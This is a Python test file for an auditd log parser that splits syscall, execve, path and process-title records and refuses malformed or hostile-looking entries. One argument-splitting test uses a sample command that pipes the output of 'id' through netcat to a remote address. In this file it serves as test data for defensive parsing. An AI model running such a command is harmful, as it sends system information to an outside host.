"""The shapes decide nothing: what they take apart is what reading record by record gives, all else they refuse."""

import random  # noqa: TID251 - seeded logs
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from daemon.events.audit_caller import read_caller
from daemon.events.audit_shape import (
    MARK,
    SHAPE,
    Shape,
    are_names,
    decode_title,
    decode_titles,
    read_arguments,
    read_directory,
    split_address,
    split_paths,
)
from daemon.events.audit_values import to_text
from daemon.events.auditd import Record, decode_execve, decode_record, parse_record
from daemon.model import Position
from tests.doubles.any_audit import AnyAudit
from tests.doubles.audit_lines import execve

HEAD = b"type=EXECVE msg=audit(1.1:1): argc=1 "
ALONE = (
    b'type=USER_LOGIN msg=audit(1795252500.400:5): pid=8 uid=0 auid=1000 ses=1 msg=\'op=login acct="x" '
    b'exe="/usr/sbin/sshd" hostname=? addr=192.0.2.1 terminal=ssh res=failed\'\n'
)
FULL = (
    b"type=SYSCALL msg=audit(1.1:7): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=8 items=2 ppid=2 pid=3 "
    b"auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=7 "
    b'comm="c" exe="/bin/c" subj=unconfined key="k"\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="x"\n'
    b'type=EXECVE msg=audit(1.1:7): argc=1 a0="c"\n'
    b"type=SOCKADDR msg=audit(1.1:7): saddr=0200\x1dSADDR={ x }\n"
    b'type=CWD msg=audit(1.1:7): cwd="/r"\n'
    b'type=PATH msg=audit(1.1:7): item=0 name="/bin/c" inode=1 nametype=NORMAL\x1dOUID="root"\n'
    b"type=PROCTITLE msg=audit(1.1:7): proctitle=63\n"
)


def record_of(line: bytes) -> Record:
    found = parse_record(line, Position("", "", 0))
    assert found is not None
    return found


def rows_of(data: bytes) -> list[Shape]:
    """What is found in lines, of which nothing may be left."""
    rows = [Shape._make(found) for found in SHAPE.findall(data)]
    assert b"".join(row.lines for row in rows) == data
    return rows


def paths_of(row: Shape) -> list[bytes]:
    others = row.paths.replace(row.head, b"").replace(row.node + b"type=PATH : ", b"")
    return [*filter(None, (row.path, row.path2)), *others.split(b"\n")[:-1]]


def arguments_of(row: Shape) -> object:
    """What is found in the record with the arguments; None for one that is not as usual."""
    (found,) = read_arguments([row.argc], [row.arguments])
    return found


def is_usual(row: Shape) -> bool:
    """Whether all parts of a row are as they should be."""
    if row.alone:
        return are_names(row.names) and MARK not in row.said
    return bool(
        row.stamp
        and read_caller(row.what, row.who)
        and decode_title(row.title) is not None
        and split_paths(paths_of(row)) is not None
        and (not row.cwd or read_directory(row.cwd))
        and (not row.saddr or split_address(row.saddr))
        and (not row.argc or arguments_of(row))
    )


def is_whole(data: bytes) -> bool:
    return data.endswith(b"\n") and len(rows_of(data)) == 1 and is_usual(rows_of(data)[0])


def test_a_call_is_taken_apart() -> None:
    (row,) = rows_of(FULL)
    assert (row.stamp, row.serial, row.items, row.pid, row.ppid) == (b"1.1", b"7", b"2", b"3", b"2")
    assert (row.argc, row.arguments, row.title) == (b"1", b'a0="c"', b"63")
    caller = read_caller(row.what, row.who)
    assert caller is not None
    assert (caller.image, caller.key, caller.name, caller.user) == ("/bin/c", "k", "execve", "alice")
    assert (caller.auid, caller.uid, caller.euid, caller.tty) == ("1000", "1000", "1000", "pts0")
    assert split_address(row.saddr) == (b"0200", True)
    assert read_directory(row.cwd) == b"/r"
    assert split_paths(paths_of(row)) == [(True, b"/bin/c", True)]


def test_a_record_that_stands_alone_is_taken_apart() -> None:
    (row,) = rows_of(ALONE)
    assert (row.alone, row.stamp, row.serial) == (b"USER_LOGIN", b"1795252500.400", b"5")
    assert is_usual(row)


def test_the_usual_start_of_a_program_has_the_shape_in_both_formats() -> None:
    raw = FULL.replace(b'\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="alice" GID="x"', b"")
    assert is_whole(FULL)
    assert is_whole(raw)
    (row,) = rows_of(raw)
    caller = read_caller(row.what, row.who)
    assert caller is not None
    assert (caller.name, caller.named, caller.user) == ("execve", False, "")


def test_paths_beyond_the_second_stand_together() -> None:
    line = b'type=PATH msg=audit(1.1:7): item=%d name="/bin/%d" inode=1 nametype=NORMAL\n'
    raw = FULL.replace(b"type=PROCTITLE", b"".join(line % (number, number) for number in (1, 2, 3)) + b"type=PROCTITLE")
    (row,) = rows_of(raw)
    names = split_paths(paths_of(row))
    assert names == [(not number, b"/bin/%s" % (b"%d" % number if number else b"c"), True) for number in range(4)]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        pytest.param(b"type=PROCTITLE msg=audit(1.1:7)", b"type=PROCTITLE msg=audit(1.1:8)", id="another serial"),
        pytest.param(b"type=CWD msg=audit(1.1:7)", b"node=x type=CWD msg=audit(1.1:7)", id="another node"),
        pytest.param(b":7)", b":07)", id="a serial as nobody writes it"),
        pytest.param(b"a0=1 ", b'a0="1 ', id="a quote that does not end"),
        pytest.param(b'name="/bin/c"', b"name=2F", id="a path in hex"),
        pytest.param(b'name="/bin/c"', b'name="/bin/\x01"', id="a control in a path"),
        pytest.param(b'name="/bin/c"', b'name="/bin/ c"', id="a blank in a path"),
        pytest.param(b'name="/bin/c"', b'name="/bin/\x1dc"', id="a separator in a path"),
        pytest.param(b'cwd="/r"', b'cwd="/r r"', id="a blank in a directory"),
        pytest.param(b'OUID="root"\n', b'OUID="root"\r\n', id="CR LF after names"),
        pytest.param(b"proctitle=63\n", b"proctitle=63\r\n", id="CR LF after a title"),
        pytest.param(b'a0="c"\n', b'a0="c"\r\n', id="CR LF after arguments"),
        pytest.param(b"SADDR={ x }\n", b"SADDR={ x }\r\n", id="CR LF after an address"),
        pytest.param(b'cwd="/r"\n', b'cwd="/r"\n\n', id="an empty line"),
        pytest.param(b"proctitle=63\n", b"proctitle=63", id="a line that is cut"),
    ],
)
def test_what_looks_otherwise_is_refused(old: bytes, new: bytes) -> None:
    assert FULL.count(old) >= 1
    data = FULL.replace(old, new)
    assert not is_whole(data if data.endswith(b"\n") else data + b"x\n")


def test_a_mark_that_is_no_head_is_refused() -> None:
    for old in (
        b'comm="c',
        b'exe="/bin/c',
        b'key="k',
        b'UID="alice',
        b'a0="c',
        b"SADDR={ x",
        b'cwd="/r',
        b'name="/bin/c',
        b'OUID="root',
    ):
        assert FULL.count(old) >= 1
        assert not is_whole(FULL.replace(old, old + MARK))
    assert not is_whole(FULL.replace(b"proctitle=63", b"proctitle=" + (b"c" + MARK).hex().upper().encode()))
    for old in (b'acct="x', b'exe="/usr/sbin/sshd', b"hostname=?", b"terminal=ssh"):
        assert is_whole(ALONE)
        assert not is_whole(ALONE.replace(old, old + MARK))


def test_the_same_path_record_twice_is_refused() -> None:
    line = FULL.partition(b"type=PATH")[2].partition(b"\n")[0]
    assert not is_whole(FULL.replace(b"type=PROCTITLE", b"type=PATH" + line + b"\ntype=PROCTITLE"))


def test_a_path_behind_which_the_line_ends_in_cr_lf_is_refused() -> None:
    raw = FULL.replace(b'nametype=NORMAL\x1dOUID="root"\n', b"nametype=NORMAL\n")
    assert is_whole(raw)
    assert not is_whole(raw.replace(b"NORMAL\n", b"NORMAL\r\n"))


def test_a_record_of_a_long_program_is_refused() -> None:
    for length in (63, 64):
        assert is_whole(ALONE.replace(b"/usr/sbin/sshd", b"/" + b"s" * (length - 1))) == (length < 64)
    assert not is_whole(ALONE.replace(b"/usr/sbin/sshd", b"/" + b"\xff" * 20))  # 80 characters, as it is shown


@pytest.mark.parametrize("acct", [b'"x\x1d"', b"7861", b'"x"y"'])
def test_a_record_of_a_program_with_hostile_text_is_refused(acct: bytes) -> None:
    assert not is_whole(ALONE.replace(b'acct="x"', b"acct=" + acct))
    assert not is_whole(ALONE.replace(b'exe="/usr/sbin/sshd"', b'exe="/usr/sbin/ sshd"'))


@given(st.integers(0, 5000))
def test_a_row_is_one_event_from_the_beginning_of_a_line_to_the_end_of_one(seed: int) -> None:
    data = b"".join(line + b"\n" for line in AnyAudit(random.Random(seed)).lines(6))  # noqa: S311 - a seeded log
    for row in rows_of(data):
        assert row.lines.endswith(b"\n")
        if not row.stamp:
            assert row.lines.count(b"\n") == 1
        elif is_usual(row):
            records = [record_of(line) for line in row.lines.split(b"\n")[:-1]]
            assert len({(record.node, record.stamp, record.serial) for record in records}) == 1
            assert row.lines.count(MARK) == len(records)
            if row.alone:
                assert len(records) == 1
            else:
                is_decoded(row, records)


def is_decoded(row: Shape, records: list[Record]) -> None:
    """The parts of a call are the values of its records."""
    call, title = decode_record(records[0]).fields, decode_record(records[-1]).fields["proctitle"]
    caller, decoded = read_caller(row.what, row.who), decode_title(row.title)
    assert caller is not None
    said = (caller.image, to_text(row.pid), to_text(row.ppid), caller.uid, caller.key)
    assert said == tuple(call[key] for key in ("exe", "pid", "ppid", "uid", "key"))
    assert (caller.named, caller.user) == ("SYSCALL" in call, call.get("UID", ""))
    assert caller.name == call.get("SYSCALL", caller.name)
    assert decoded is not None
    assert to_text(decoded) == title
    names = [decode_record(record).fields for record in records if record.kind == "PATH"]
    named = [(one["item"] == "0", one["name"]) for one in names if one["name"] != "(null)"]
    found = split_paths(paths_of(row))
    assert found is not None
    assert [(first, to_text(name)) for first, name, _ in found if name != b"(null)"] == named
    cwd = [decode_record(record).fields["cwd"] for record in records if record.kind == "CWD"]
    assert ([to_text(read_directory(row.cwd) or b"")] if row.cwd else []) == cwd


said = st.lists(
    st.one_of(
        st.binary(max_size=9).map(lambda raw: raw.hex().upper().encode()),
        st.binary(max_size=9).map(lambda raw: b'"%s"' % raw.replace(b'"', b"").replace(b"\n", b"").replace(b"\r", b"")),
        st.sampled_from([b"bare", b"BARE", b"", b'"', b"a'b", b'"a" b', b"41 42", b'"a1="', b"4"]),
    ),
    max_size=14,
)


@given(said, st.sampled_from([b" ", b"  "]))
def test_arguments_are_those_of_the_record(values: list[bytes], between: bytes) -> None:
    body = between.join(b"a%d=%s" % one for one in enumerate(values))
    (split,) = read_arguments([b"%d" % len(values)], [body])
    if split is not None:
        decoded, arguments = decode_execve([record_of(HEAD + body)])
        assert tuple(map(to_text, split[0])) == arguments
        assert to_text(split[1]) == " ".join(arguments)
        assert HEAD.decode() + to_text(split[2] or body) == decoded.text


@given(st.lists(said, max_size=5))
def test_records_with_arguments_read_together_say_what_each_says(records: list[list[bytes]]) -> None:
    bodies = [b" ".join(b"a%d=%s" % one for one in enumerate(values)) for values in records]
    counts = [b"%d" % len(values) for values in records]
    together = read_arguments(counts, bodies)
    each = [read_arguments([count], [body])[0] for count, body in zip(counts, bodies, strict=True)]
    assert [found and (list(found[0]), *found[1:]) for found in together] == [
        found and (list(found[0]), *found[1:]) for found in each
    ]


@pytest.mark.parametrize(
    "body", [b'a1="x" a0="y"', b'a0="x" a0="y"', b'a0="x"  a1="y"', b"a0[0]=41 a0[1]=42", b'a0_len=4 a0="x"', b'a0="x']
)
def test_arguments_in_another_order_are_refused(body: bytes) -> None:
    assert read_arguments([b"2"], [body]) == [None]


def test_what_is_no_list_of_arguments_is_refused_at_once() -> None:
    start = time.process_time()
    assert read_arguments([b"1"], [b"b0=" + b"a1=" * 2500 + b'"']) == [None]
    assert time.process_time() - start < 0.05


def test_most_arguments_are_split() -> None:
    lines = execve(1, "sh", "-c", "id | nc 203.0.113.9 4444", "é")
    body = lines[1].partition("argc=4 ")[2].encode()
    (split,) = read_arguments([b"4"], [body])
    assert split is not None
    assert [one.decode() for one in split[0]] == ["sh", "-c", "id | nc 203.0.113.9 4444", "é"]


def test_titles() -> None:
    assert decode_title(b'"a b"') == b"a b"
    assert decode_title(b"6C73002D6C0000") == b"ls -l"
    assert decode_title(b"6C7") is None


titles = st.lists(
    st.one_of(
        st.binary(min_size=1, max_size=9).map(lambda raw: raw.hex().upper().encode()),
        st.sampled_from(
            [b'"ls"', b'"', b'"a\x01"', b"6C7", b"6c", b"00", b"6C0000", b"zz", MARK.hex().upper().encode()]
        ),
    ),
    max_size=6,
)


@given(titles)
def test_titles_decoded_together_are_those_decoded_one_by_one(said: list[bytes]) -> None:
    assert list(decode_titles(said)) == [decode_title(one) for one in said]


def test_two_halves_of_a_byte_are_no_byte() -> None:
    assert list(decode_titles([b"6C7", b"36C", b"6C73"])) == [None, None, b"ls"]
